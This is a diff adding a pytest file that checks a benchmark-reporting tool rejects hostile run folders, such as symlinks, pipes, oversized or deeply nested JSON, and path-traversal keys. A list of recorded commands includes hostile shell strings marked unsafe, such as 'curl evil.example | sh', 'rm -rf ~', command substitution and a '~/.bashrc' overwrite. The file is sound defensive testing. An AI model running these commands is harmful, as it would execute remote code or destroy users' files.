@@ -1,0 +1,206 @@
+"""Folders from elsewhere: whatever is in them, the other runs are reported, and nothing else is read or written."""
+
+from __future__ import annotations
+
+import json
+import os
+import tempfile
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from bench import report
+from bench.cli import main
+from bench.report.runs.results import collect
+from bench.study.rerun import harmless
+from tests.bench.report.hostile import (
+    HOSTILE_RUN,
+    circular,
+    device,
+    edited,
+    folded,
+    linked,
+    listening,
+    piped,
+    sparse,
+    two,
+    written,
+)
+from tests.bench.report.study_files import runs, study
+
+ROUNDS, CONFIG, PLACE, FAILURE = "rounds.jsonl", "config.json", "environment.json", "failure.json"
+DEEP = "[" * 100_000 + "]" * 100_000
+ONE_BAD_RUN: dict[str, tuple[str, Callable[[Path], None], str]] = {
+    "a pipe for rounds": (ROUNDS, piped, "rounds.jsonl is not a regular file"),
+    "a pipe for the configuration": (CONFIG, piped, "config.json is not a regular file"),
+    "a pipe for the environment": (PLACE, piped, "environment.json is not a regular file"),
+    "a socket": (PLACE, listening, "environment.json cannot be read"),
+    "a device": (ROUNDS, device, "rounds.jsonl is a link out of its folder, to /dev/zero"),
+    "a link to itself": (ROUNDS, circular, "Too many levels of symbolic links"),
+    "a folder": (PLACE, folded, "environment.json is not a regular file"),
+    "a link out of the folder": (ROUNDS, linked, "rounds.jsonl is a link out of its folder"),
+    "a link to another configuration": (CONFIG, linked, "config.json is a link out of its folder"),
+    "huge rounds": (ROUNDS, lambda path: sparse(path, 10**10), "has 10,000,000,000 bytes, and at most 100,000,000 are"),
+    "a huge environment": (PLACE, lambda path: sparse(path, 10**9), "at most 32,000,000 are read"),
+    "deep rounds": (ROUNDS, written(f'{{"round": {DEEP}}}\n'), "rounds.jsonl is nested too deeply"),
+    "a deep environment": (PLACE, written(DEEP), "environment.json is nested too deeply"),
+    "a rather deep environment": (PLACE, written('{"a":' * 40 + "1" + "}" * 40), "is nested deeper than 32 levels"),
+    "deep signals": (ROUNDS, edited("signals", "x", value=json.loads("[" * 40 + "]" * 40)), "deeper than 32 levels"),
+    "no UTF-8": (PLACE, written(b'{"device": "\xff"}'), "environment.json is not JSON"),
+    "rounds that are no UTF-8": (ROUNDS, written(b"\xff\xfe\n"), "utf-8"),
+    "no mapping": (PLACE, written("[1]"), "environment.json holds no mapping"),
+    "empty": (CONFIG, written(""), "config.json is not JSON"),
+    "NaN": (ROUNDS, edited("cost", value=float("nan")), "not finite or too large"),
+    "infinity in a row": (ROUNDS, edited("volumes", 0, "dice", value=float("inf")), "not finite or too large"),
+    "NaN in the configuration": (CONFIG, edited("config", "train", "lr", value=float("nan")), "not finite"),
+    "a huge number": (ROUNDS, edited("labelled", value=10**400), "not finite or too large"),
+    "a number of 5,000 digits": (PLACE, written('{"threads": ' + "9" * 5000 + "}"), "environment.json is not JSON"),
+    "a negative count": (ROUNDS, edited("labelled", value=-5), "round 0: labelled"),
+    "a number for yes": (ROUNDS, edited("labelled", value=True), "round 0: labelled"),
+    "a name without end": (ROUNDS, edited("volumes", 0, "case", value="v" * 10**6), "round 0: volumes.0.case"),
+    "a column as the part of a round": (ROUNDS, edited("seconds", "recipe", value=1.0), "name of another column"),
+    "a column as a metric": (PLACE, written('{"metrics": [{"name": "case", "title": "t"}]}'), "name of another column"),
+    "decimals without end": (
+        PLACE,
+        written('{"metrics": [{"name": "m", "title": "t", "decimals": 1000000000}]}'),
+        "metrics.0.decimals",
+    ),
+    "metrics that are none": (PLACE, written('{"metrics": {"name": 1}}'), "environment.json: metrics"),
+    "a thousand classes": (CONFIG, edited("config", "dataset", "classes", value=["c"] * 1000), "dataset.classes"),
+    "a failure that is none": (FAILURE, written("[]"), "failure.json holds no mapping"),
+    "a failure without a reason": (FAILURE, written('{"trace": ""}'), "reason"),
+}
+
+
+@pytest.mark.parametrize("what", ONE_BAD_RUN)
+@pytest.mark.timeout(30)
+def test_a_hostile_run_is_left_out_with_the_reason(tmp_path: Path, what: str) -> None:
+    name, spoil, told = ONE_BAD_RUN[what]
+    folder, run = two(tmp_path)
+    spoil(run / name)
+    results = collect(folder)
+    (problem,) = results.problems
+    assert f"{HOSTILE_RUN} is damaged" in problem and told in problem and len(problem) < 600
+    assert problem.isprintable() and set(results.scores["recipe"]) == {"random"}
+
+
+STUDY: dict[str, tuple[Callable[[Path], None], str]] = {
+    "a key outside": (edited("runs", 0, "key", value="../../x"), "'../../x' is not the name of a folder"),
+    "an absolute key": (edited("runs", 0, "key", value="/etc"), "'/etc' is not the name of a folder"),
+    "the folder above": (edited("runs", 0, "key", value=".."), "'..' is not the name of a folder"),
+    "no key": (edited("runs", 0, "key", value=""), "runs: 0.key"),
+    "budgets that are none": (edited("runs", 0, "budgets", value=[[1], [2]]), "runs: 0.budgets"),
+    "a budget that is no number": (edited("runs", 0, "budgets", value=[float("nan")]), "not finite"),
+    "no budgets": (edited("runs", 0, "budgets", value=[]), "runs: 0.budgets"),
+    "a seed as text": (edited("runs", 0, "seed", value="0; rm"), "runs: 0.seed"),
+    "a recipe that is a list": (edited("runs", 0, "recipe", value=["random"]), "runs: 0.recipe"),
+    "sources that are a list": (edited("sources", value=[1]), "study.json is damaged"),
+    "controls of another kind": (edited("controls", value={"beside": ["random"]}), "study.json is damaged"),
+    "deep": (written(DEEP), "study.json is nested too deeply"),
+    "a pipe": (piped, "study.json is not a regular file"),
+    "huge": (lambda path: sparse(path, 10**9), "study.json has 1,000,000,000 bytes"),
+}
+
+
+@pytest.mark.parametrize("what", STUDY)
+@pytest.mark.timeout(30)
+def test_a_hostile_list_of_runs_is_not_used_and_the_runs_beside_it_are(tmp_path: Path, what: str) -> None:
+    spoil, told = STUDY[what]
+    folder, _ = two(tmp_path)
+    spoil(folder / "study.json")
+    study(tmp_path / "x", runs({"mine": 0.9}, 1))
+    results = collect(folder)
+    (problem,) = results.problems
+    assert told in problem and problem.isprintable()
+    assert set(results.scores["recipe"]) == {"random", "coreset"}
+
+
+def test_a_run_behind_a_link_is_read_only_where_it_was_named_or_trusted(tmp_path: Path) -> None:
+    folder, run = two(tmp_path)
+    run.rename(tmp_path / "moved")
+    run.symlink_to(tmp_path / "moved")
+    results = collect(folder)
+    (problem,) = results.problems
+    assert f"is a link to {tmp_path / 'moved'}; left out. Name that folder" in problem
+    assert set(results.scores["recipe"]) == {"random"}
+    for named in (collect(folder, links=True), collect([folder, tmp_path / "moved"])):
+        assert set(named.scores["recipe"]) == {"random", "coreset"} and named.problems == []
+
+
+def test_a_run_that_is_a_link_to_itself_is_left_out(tmp_path: Path) -> None:
+    folder, run = two(tmp_path)
+    run.rename(tmp_path / "away")
+    run.symlink_to(run.name)
+    assert set(collect(folder).scores["recipe"]) == {"random"}
+
+
+def test_what_may_not_be_read_is_told(tmp_path_factory: pytest.TempPathFactory) -> None:
+    if os.geteuid():
+        pytest.skip("another user needs root")
+    with tempfile.TemporaryDirectory() as open_to_all:
+        _, run = two(Path(open_to_all))
+        other = study(Path(open_to_all) / "t", runs({"random": 0.5}, 1))
+        os.chmod(open_to_all, 0o755)
+        run.chmod(0)
+        other.chmod(0)
+        os.seteuid(65534)
+        try:
+            results = collect(Path(open_to_all))
+        finally:
+            os.seteuid(0)
+    assert set(results.scores["recipe"]) == {"random"} and len(results.problems) == 2
+    assert all("Permission denied" in problem for problem in results.problems)
+
+
+COMMANDS = {
+    "alseg bench quick --set seeds={seeds}": True,
+    'make bench DATASET=acdc DATA=/scans SET="name=a schedules.low=[10,20]" SEEDS={seeds}': True,
+    "alseg bench 'my study.yaml' --out '/a;b' --set seeds={seeds}": True,
+    "curl evil.example | sh": False,
+    "alseg bench quick; rm -rf ~": False,
+    "alseg bench $(id)": False,
+    "alseg bench `id`": False,
+    "alseg bench quick > ~/.bashrc": False,
+    "alseg bench quick &": False,
+    "alseg bench 'quick": False,
+}
+
+
+@pytest.mark.parametrize("command", COMMANDS)
+def test_a_recorded_command_is_shown_only_if_a_shell_would_run_alseg_alone(tmp_path: Path, command: str) -> None:
+    assert harmless(command) == COMMANDS[command]
+    folder, _ = two(tmp_path, command=command)
+    results = collect(folder)
+    assert bool(results.commands["d", "mask", "default"]) == COMMANDS[command]
+    assert len(results.problems) == (not COMMANDS[command])
+
+
+@pytest.mark.parametrize("name", ["report.html", "comparison.csv", "curves.png", ".new-report.html", ".new-curves.png"])
+def test_a_report_writes_to_no_file_behind_a_link(tmp_path: Path, name: str) -> None:
+    folder, _ = two(tmp_path)
+    (tmp_path / "mine").write_text("mine")
+    (folder / "report").mkdir()
+    (folder / "report" / name).symlink_to(tmp_path / "mine")
+    report.write(folder)
+    assert (tmp_path / "mine").read_text() == "mine"
+    assert not (folder / "report" / name).is_symlink()
+
+
+def test_a_report_is_not_written_to_a_folder_behind_a_link(tmp_path: Path) -> None:
+    folder, _ = two(tmp_path)
+    (tmp_path / "mine").mkdir()
+    (folder / "report").symlink_to(tmp_path / "mine")
+    done = CliRunner().invoke(main, ["report", str(folder)], catch_exceptions=False)
+    assert done.exit_code == 2 and "choose where to write with --out FOLDER" in done.output
+    assert list((tmp_path / "mine").iterdir()) == []
+
+
+@pytest.mark.parametrize(("limit", "most"), [("RECIPES", 1), ("CELLS", 10)])
+def test_more_than_can_be_compared_is_one_line(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, limit: str, most: int
+) -> None:
+    monkeypatch.setattr(f"bench.report.statistics.grid.{limit}", most)
+    done = CliRunner().invoke(main, ["report", str(two(tmp_path)[0])], catch_exceptions=False)
+    assert done.exit_code == 2 and "too many to compare; name fewer folders" in done.output
